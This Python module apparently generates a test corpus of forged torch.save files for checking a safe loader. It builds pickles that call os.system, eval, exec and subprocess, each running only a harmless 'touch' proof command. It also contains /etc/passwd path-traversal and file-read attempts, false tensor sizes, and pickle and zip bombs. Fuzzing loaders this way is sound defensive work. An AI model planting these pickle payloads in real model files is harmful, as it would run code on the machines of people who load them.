"""Forged files of `torch.save`: files with code, with wrong sizes, and with structures that expand."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Iterator


def zipped(content: bytes, records: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
    """An archive in the format of torch.save, with any pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/byteorder", "little")
        for name, record in (records or {"data/0": b"\0" * 64}).items():
            archive.writestr(f"archive/{name}", record)
        archive.writestr("archive/version", "3\n")
    return out.getvalue()


def legacy(content: bytes, keys: bytes = b"\x80\x02]q\x00.", rest: bytes = b"") -> bytes:
    """The older format of torch.save: several pickles, then the storages."""
    head = [pickle.dumps(each, 2) for each in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join([*head, content, keys, rest])


def text(word: str) -> bytes:
    return b"X" + struct.pack("<I", len(word)) + word.encode()


def integer(number: int) -> bytes:
    data = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def called(module: str, name: str, *arguments: bytes) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def storage(count: int, kind: str = "FloatStorage", key: str = "0") -> bytes:
    return b"(" + text("storage") + f"ctorch\n{kind}\n".encode() + text(key) + text("cpu") + integer(count) + b"tQ"


def old_storage(count: int, key: str = "0", view: bytes = b"N") -> bytes:
    inner = b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + integer(count)
    return b"(" + text("storage") + inner + view + b"tQ"


def tensor(made: bytes, shape: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    row = [b"(" + b"".join(map(integer, numbers)) + b"t" for numbers in (shape, stride)]
    hooks = called("collections", "OrderedDict")
    return called("torch._utils", "_rebuild_tensor_v2", made, integer(offset), *row, b"\x89", hooks)


def mapping(value: bytes, key: bytes = text("conv1.weight")) -> bytes:
    return b"\x80\x02}(" + key + value + b"u."


def programs(proof: str) -> Iterator[tuple[str, bytes]]:
    """Pickles that run code if a reader calls the functions that they name."""
    touch = text(f"touch {proof}")
    python = text(f"open({proof!r}, 'w').close()")
    yield "os.system", called("os", "system", touch)
    yield "posix.system", called("posix", "system", touch)
    yield "eval", called("builtins", "eval", python)
    yield "exec", called("builtins", "exec", python)
    yield "old eval", called("__builtin__", "eval", python)
    yield "subprocess", called("subprocess", "call", b"]" + text("touch") + b"a" + text(proof) + b"a")
    yield "runpy", called("runpy", "_run_code", python, b"}")
    yield "getattr", called("builtins", "getattr", b"cos\nsystem\n", text("__call__"))
    yield "import", called("builtins", "__import__", text("os"))
    yield "torch.load", called("torch.storage", "_load_from_bytes", text(proof))
    yield "partial", called("functools", "partial", b"cos\nsystem\n", touch)
    yield "apply", called("torch", "utils.model_zoo.load_url", text("file:///etc/passwd"))
    yield "instance", b"(" + touch + b"ios\nsystem\n"
    yield "object", b"(cos\nsystem\n" + touch + b"o"
    yield "new object", b"cos\nsystem\n(" + touch + b"t\x81"
    yield "state", called("collections", "OrderedDict") + b"}" + text("__class__") + b"cos\nsystem\nsb"
    yield (
        "type",
        called(
            "torch._tensor", "_rebuild_from_type_v2", b"cos\nsystem\n", b"ctorch\nTensor\n", b"(" + touch + b"t", b"}"
        ),
    )


def of_torch(proof: str) -> Iterator[tuple[str, bytes]]:
    """Files of torch.save with code, with wrong sizes, and with structures that expand."""
    for name, program in programs(proof):
        yield f"program {name} in a zip", zipped(mapping(program))
        yield f"program {name} alone in a zip", zipped(b"\x80\x02" + program + b".")
        yield f"program {name} in a row", legacy(mapping(program))
        yield f"program {name} first", b"\x80\x02" + program + b"."
        yield f"program {name} as keys", legacy(mapping(b"N"), b"\x80\x02" + program + b".")
    huge = 3 << 28
    lies = {
        "a storage": tensor(storage(huge), (huge,), (1,)),
        "a storage of bytes": tensor(storage(huge * 4, "UntypedStorage"), (huge,), (1,)),
        "a shape": tensor(storage(16), (huge,), (1,)),
        "a shape without steps": tensor(storage(16), (huge,), (0,)),
        "a shape of many": tensor(storage(16), (1 << 15, 1 << 15), (0, 0)),
        "a step": tensor(storage(16), (2,), (huge,)),
        "a place": tensor(storage(16), (1,), (1,), huge),
        "a negative place": tensor(storage(16), (4,), (1,), -4),
        "a negative step": tensor(storage(16), (4,), (-1,), 3),
        "a negative shape": tensor(storage(16), (-4,), (1,)),
        "an overflow": tensor(storage(16), (1 << 62, 1 << 62), (1, 1)),
        "a negative storage": tensor(storage(-1), (1,), (1,)),
        "another record": tensor(storage(16, key="../../etc/passwd"), (1,), (1,)),
        "a record's end": tensor(storage(17), (17,), (1,)),
        "two sizes": b"(" + tensor(storage(16), (1,), (1,)) + tensor(storage(4), (1,), (1,)) + b"t",
        "no values": called("torch", "Tensor", integer(huge)),
        "a sized array": called("builtins", "bytearray", integer(huge * 4)),
        "a meta tensor": called(
            "torch._utils", "_rebuild_meta_tensor_no_storage", b"ctorch\nfloat32\n", b"(" + integer(huge) + b"t"
        ),
        "a range": called("builtins", "range", integer(huge)),
        "a set of nothing": called("builtins", "set", integer(5)),
        "a power": called("builtins", "pow", integer(9), integer(1 << 40)),
        "a sparse tensor": called("torch._utils", "_rebuild_sparse_tensor", b"N", b"N"),
    }
    for name, lie in lies.items():
        yield f"lie about {name} in a zip", zipped(mapping(lie))
        old = lie.replace(b"tQ", b"NtQ")
        yield f"lie about {name} in a row", legacy(mapping(old), b"\x80\x02]" + text("0") + b"a.", b"\0" * 72)
    view = b"(" + text("v") + integer(1) + integer(huge) + b"t"
    yield "lie about a view in a row", legacy(mapping(tensor(old_storage(4, view=view), (1,), (1,))))
    doubled = b"]" + b"".join(b"q" + bytes([n]) + b"]h" + bytes([n]) + b"ah" + bytes([n]) + b"a" for n in range(60))
    tuples = b"N" + b"".join(b"q" + bytes([n]) + b"h" + bytes([n]) + b"\x86" for n in range(60))
    bombs = {
        "lists": b"\x80\x02(" + b"]" * 2_000_000 + b"t.",
        "dictionaries": b"\x80\x02(" + b"}" * 2_000_000 + b"t.",
        "sets": b"\x80\x02(" + b"\x8f" * 1_000_000 + b"t.",
        "calls": b"\x80\x02(ccollections\nOrderedDict\nq\x00)q\x01" + b"h\x00h\x01R" * 400_000 + b"t.",
        "doubled lists": b"\x80\x02" + doubled + b".",
        "doubled tuples": b"\x80\x02" + tuples + b".",
        "doubled keys": b"\x80\x02}" + tuples + b"Ns.",
        "equal hashes": b"\x80\x02}(" + b"".join(integer(n * ((1 << 61) - 1)) + b"N" for n in range(60_000)) + b"u.",
        "depth": b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
        "a cycle": b"\x80\x02]q\x00h\x00a.",
        "a long text": b"\x80\x02X\xff\xff\xff\x7fabc.",
        "a longer text": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"abc.",
        "an array": b"\x80\x05\x96" + struct.pack("<Q", 1 << 33) + b".",
        "a frame": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N.",
        "a far memo": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "empty tensors": b"\x80\x02(" + tensor(storage(16), (0,), (1,)) * 60_000 + b"t.",
        "no end": b"\x80\x02N",
        "nothing": b"",
        "junk": b"\xff" * 100,
    }
    for name, bomb in bombs.items():
        yield f"bomb of {name} in a zip", zipped(bomb)
        yield f"bomb of {name} in a row", legacy(bomb)
    good = zipped(mapping(tensor(storage(16), (4, 4), (4, 1))))
    yield "packed zeros", zipped(mapping(b"N"), {"data/0": b"\0" * (200 << 20)}, zipfile.ZIP_DEFLATED)
    yield "packed pickle", zipped(b"\x80\x02(" + b"]" * 20_000_000 + b"t.", None, zipfile.ZIP_DEFLATED)
    yield "many records", zipped(mapping(b"N"), {f"d/{n}": b"" for n in range(60_000)})
    yield "two lists", good + good[good.index(b"PK\x01\x02") :]
    yield "a comment", good[:-2] + b"\x04\0abcd"
    yield "a tar", torch_tar()
    yield "a script", zipped(mapping(b"N"), {"constants.pkl": b"\x80\x02N."})
    yield "two folders", zipped(mapping(b"N"), {"../data/0": b"\0" * 64})
    place = good.index(b"PK\x01\x02")
    for offset, name in ((20, "a packed size"), (24, "a size"), (42, "a place")):
        yield f"a list with {name}", good[: place + offset] + b"\xf0\xff\xff\x7f" + good[place + offset + 4 :]


def torch_tar() -> bytes:
    """A tar archive whose first header states a size of gigabytes."""
    header = tarfile.TarInfo("\x80\x02")
    header.type, header.size = tarfile.XHDTYPE, 4 << 30
    return header.tobuf(tarfile.GNU_FORMAT)
